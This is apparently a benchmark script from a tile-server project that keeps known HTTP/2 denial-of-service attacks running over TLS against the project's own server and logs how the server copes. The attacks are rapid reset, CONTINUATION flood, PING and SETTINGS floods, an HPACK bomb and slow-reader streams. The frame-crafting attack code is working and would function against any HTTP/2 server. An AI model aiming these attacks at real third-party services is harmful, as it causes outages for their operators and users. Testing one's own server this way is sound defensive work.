#!/usr/bin/env python3
"""The attack side of bench/h2-attacks.sh: HTTP/2's known attacks (issue #49, item 3) kept up over TLS against a
running `tiler serve --tls-cert …` for a given time, from several connections at once (a thread each); a connection
the server closes is replaced by a new one at once, as an attacker would. /usr/bin/python3 with Debian's python3-h2.

  h2-attackers.py ATTACK --port P --dzi FILE --start T --seconds S --out FILE.json [--connections N]

T is a time.monotonic() instant (the clock is system-wide), so the attack and the served client start together.
Tests/HTTP2/abuse.py makes each attack once, as a test; this keeps each up.
"""
import argparse
import importlib
import json
import os
import random
import socket
import ssl
import struct
import sys
import threading
import time

import h2.events
import h2.exceptions
import hpack

sys.dont_write_bytecode = True
sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
client = importlib.import_module("h2-client")  # TLS, python-h2's client side, hostile-clients.py's helpers
hostile, now, HOST, describe, error_name = client.hostile, client.now, client.HOST, client.describe, client.error_name
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
HEADERS, RST_STREAM, SETTINGS, PING, GOAWAY, CONTINUATION = 1, 3, 4, 6, 7, 9
END_STREAM, ACK, END_HEADERS = 1, 1, 4
CONNECTIONS = {"rapid-reset": 4, "continuation": 4, "ping-flood": 4, "settings-flood": 4, "hpack-bomb": 4,
               "zero-window": 10, "no-read": 20}


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes((kind, flags)) + struct.pack(">I", stream) + payload


class Frames:
    """The server's frames on a raw connection: answers its SETTINGS, notes its GOAWAY."""

    def __init__(self):
        self.buf, self.goaway, self.reply = bytearray(), None, bytearray()

    def feed(self, data):
        self.buf += data
        while len(self.buf) >= 9:
            n = int.from_bytes(self.buf[:3], "big")
            if len(self.buf) < 9 + n:
                break
            kind, flags, payload = self.buf[3], self.buf[4], bytes(self.buf[9:9 + n])
            del self.buf[:9 + n]
            if kind == SETTINGS and not flags & ACK:
                self.reply += frame(SETTINGS, ACK, 0)
            elif kind == GOAWAY and len(payload) >= 8:
                self.goaway = error_name(int.from_bytes(payload[4:8], "big"))

    def read(self, sock, wait=0.0, answer=True):
        """Takes what the server sent (waiting up to `wait` s for some); the end's cause once it closed, else None."""
        if wait:
            sock.settimeout(wait)
        else:
            sock.setblocking(False)
        try:
            while True:
                data = sock.recv(65536)
                if not data:
                    return self.ended("closed")
                self.feed(data)
                sock.setblocking(False)
        except (ssl.SSLWantReadError, ssl.SSLWantWriteError, BlockingIOError, socket.timeout):
            pass
        except OSError as e:
            return self.ended(describe(e))
        finally:
            sock.settimeout(5)
        if self.reply and answer:
            reply, self.reply = bytes(self.reply), bytearray()
            return self.send(sock, reply)
        return None

    def send(self, sock, data):
        """None once written; "stalled" when the server took none of it for the socket's timeout; else the end."""
        try:
            sock.sendall(data)
        except socket.timeout:
            return "stalled"
        except OSError as e:  # what the server said before it closed (its GOAWAY) may still be there to read
            return self.read(sock, 0.2, answer=False) or self.ended(describe(e) + " on send")
        return None

    def ended(self, how):
        return f"GOAWAY {self.goaway}" if self.goaway else how


def blocks(pyramid, port, n=64):
    """HPACK blocks of GETs for random tiles; each from a fresh encoder, so none refers to the dynamic table."""
    rng = random.Random(49)
    return [hpack.Encoder().encode([(":method", "GET"), (":scheme", "https"), (":path", pyramid.random_tile(rng)),
                                    (":authority", f"{HOST}:{port}")]) for _ in range(n)]


# -- the attacks: each takes one connected socket and returns how the server ended it (None: still open at the end)

def rapid_reset(a, sock, end):
    """CVE-2023-44487: a GET and its RST_STREAM (CANCEL) at once, 100 streams a write, as fast as the socket takes."""
    f, stream = Frames(), 1
    why = f.send(sock, PREFACE + frame(SETTINGS, 0, 0))
    cancel = struct.pack(">I", 8)
    while why is None and now() < end and stream < 2 ** 31 - 200:
        batch = bytearray()
        for _ in range(100):
            batch += frame(HEADERS, END_HEADERS | END_STREAM, stream, random.choice(a.blocks))
            batch += frame(RST_STREAM, 0, stream, cancel)
            stream += 2
        why = f.send(sock, bytes(batch))
        if why is None:
            a.count("streams opened and reset (written)", 100)
            why = f.read(sock)
    return why


def continuation(a, sock, end, slot):
    """CVE-2024-27316 and kin: a header block that never ends. Even slots send 16 bytes per CONTINUATION (a block
    that grows), odd ones empty frames (no growth, only work per frame)."""
    f = Frames()
    why = f.send(sock, PREFACE + frame(SETTINGS, 0, 0) + frame(HEADERS, END_STREAM, 1))
    chunk = frame(CONTINUATION, 0, 1, b"" if slot % 2 else b"\x00" * 16) * 1000
    while why is None and now() < end:
        why = f.send(sock, chunk)
        if why is None:
            a.count("CONTINUATION frames (written)", 1000)
            why = f.read(sock)
    return why


def control_flood(a, sock, end, kind):
    """PING or SETTINGS frames, each asking for an answer, without reading any (a 4 KiB receive buffer)."""
    one = frame(PING, 0, 0, b"12345678") if kind == PING else frame(SETTINGS, 0, 0, struct.pack(">HI", 2, 0))
    f, chunk = Frames(), one * 1000
    why = f.send(sock, PREFACE + frame(SETTINGS, 0, 0))
    sock.settimeout(1.0)
    while why is None and now() < end:
        why = f.send(sock, chunk)
        if why is None:
            a.count("PING frames (written)" if kind == PING else "SETTINGS frames (written)", 1000)
    if why == "stalled":  # the server stopped taking them: now a client that does not read
        a.count("connections whose writes stalled")
        why = a.ends.wait_closed(sock, end)
    return why


def hpack_bomb(a, sock, end):
    """One 4,000-byte header indexed, then 99 streams each naming it 20 times (80 KB decoded from ~40 bytes)."""
    f = Frames()
    why = f.send(sock, a.bomb)
    a.count("bombs")
    while why is None and now() < end:
        why = f.read(sock, 0.5)
    return why


def zero_window(a, sock, end):
    """Streams whose window the client holds at zero: 100 tiles asked, none let through; each stream the server
    resets is replaced by a new one."""
    conn, opened = client.h2_client(0), {}

    def ask():
        sid = conn.get_next_available_stream_id()
        conn.send_headers(sid, a.headers(), end_stream=True)
        opened[sid] = now()
    for _ in range(100):
        ask()
    sock.sendall(conn.data_to_send())
    sock.settimeout(0.5)
    while now() < end:
        try:
            data = sock.recv(65536)
        except socket.timeout:
            continue
        if not data:
            return "closed"
        for event in conn.receive_data(data):
            if isinstance(event, h2.events.ConnectionTerminated):
                return f"GOAWAY {error_name(event.error_code)}"
            if isinstance(event, (h2.events.StreamReset, h2.events.StreamEnded)) and event.stream_id in opened:
                a.held(now() - opened.pop(event.stream_id), "reset" if isinstance(event, h2.events.StreamReset) else "sent")
                try:
                    ask()
                except h2.exceptions.TooManyStreamsError:
                    pass
        sock.sendall(conn.data_to_send())
    for t in opened.values():
        a.held(end - t, "still held at the end")
    return None


def no_read(a, sock, end):
    """100 tiles asked with every window wide open, then nothing read (a 4 KiB receive buffer)."""
    conn = client.h2_client(2 ** 31 - 1)
    conn.increment_flow_control_window(2 ** 31 - 1 - 65535)
    for _ in range(100):
        conn.send_headers(conn.get_next_available_stream_id(), a.headers(), end_stream=True)
    sock.sendall(conn.data_to_send())
    a.count("tiles asked and never read", 100)
    return a.ends.wait_closed(sock, end)


class Attack:
    def __init__(self, args):
        self.name, self.port, self.lock = args.attack, args.port, threading.Lock()
        self.pyramid = hostile.Pyramid(args.dzi)
        self.finest = [t for t in self.pyramid.tiles if f"_files/{self.pyramid.max_level}/" in t]
        self.blocks = blocks(self.pyramid, args.port)
        self.conns, self.counts, self.open_errors, self.holds, self.open_ages = [], {}, {}, {}, []
        self.ends = client.ServerEnds(args.port) if self.name in ("ping-flood", "settings-flood", "no-read") else None
        bomb = client.h2_client(65535)
        bomb.send_headers(1, self.headers() + [("bomb", "x" * 4000)], end_stream=True)
        for stream in range(3, 201, 2):
            bomb.send_headers(stream, self.headers() + [("bomb", "x" * 4000)] * 20, end_stream=True)
        self.bomb = bomb.data_to_send()

    def headers(self):
        return [(":method", "GET"), (":path", random.choice(self.finest)), (":scheme", "https"),
                (":authority", f"{HOST}:{self.port}")]

    def count(self, what, n=1):
        with self.lock:
            self.counts[what] = self.counts.get(what, 0) + n

    def held(self, seconds, how):
        with self.lock:
            self.holds.setdefault(how, []).append(round(seconds, 2))

    def slot(self, i, end):
        body = {"rapid-reset": rapid_reset, "hpack-bomb": hpack_bomb, "zero-window": zero_window, "no-read": no_read,
                "continuation": lambda a, s, e: continuation(a, s, e, i),
                "ping-flood": lambda a, s, e: control_flood(a, s, e, PING),
                "settings-flood": lambda a, s, e: control_flood(a, s, e, SETTINGS)}[self.name]
        reads = self.name not in ("ping-flood", "settings-flood", "no-read")
        while now() < end:
            try:
                sock = client.tls_connect(self.port, rcvbuf=None if reads else 4096)
            except (OSError, ConnectionError) as e:
                with self.lock:
                    self.open_errors[describe(e)] = self.open_errors.get(describe(e), 0) + 1
                time.sleep(0.05)
                continue
            t0 = now()
            try:
                how = body(self, sock, end)
            except (OSError, h2.exceptions.ProtocolError) as e:
                how = describe(e)
            if how == "stalled":
                how = "client: gave up, the server took no bytes for 5 s"
            with self.lock:
                if how is None:
                    self.open_ages.append(round(now() - t0, 2))
                else:
                    self.conns.append((round(now() - t0, 3), how))
            try:  # RST, so the attacker's many connections leave no TIME_WAIT behind
                sock.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
                sock.close()
            except OSError:
                pass


def main():
    ap = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    ap.add_argument("attack", choices=list(CONNECTIONS))
    ap.add_argument("--port", type=int, required=True)
    ap.add_argument("--dzi", required=True)
    ap.add_argument("--start", type=float, required=True)
    ap.add_argument("--seconds", type=float, required=True)
    ap.add_argument("--connections", type=int, help="attacking connections at once (default: per attack)")
    ap.add_argument("--out", required=True)
    args = ap.parse_args()
    a = Attack(args)
    n = args.connections or CONNECTIONS[args.attack]
    time.sleep(max(0.0, args.start - now()))
    cpu0, end = os.times(), args.start + args.seconds
    threads = [threading.Thread(target=a.slot, args=(i, end), daemon=True) for i in range(n)]
    for t in threads:
        t.start()
    for t in threads:
        t.join(timeout=max(0.0, end - now()) + 5)
    cpu1 = os.times()
    with a.lock:
        result = {"attack": a.name, "parallel": n, "connections": a.conns, "open_ages": a.open_ages,
                  "counts": a.counts, "open_errors": a.open_errors, "holds": a.holds,
                  "cpu_percent": 100 * (cpu1.user + cpu1.system - cpu0.user - cpu0.system) / args.seconds}
    with open(args.out, "w") as f:
        json.dump(result, f)


if __name__ == "__main__":
    main()
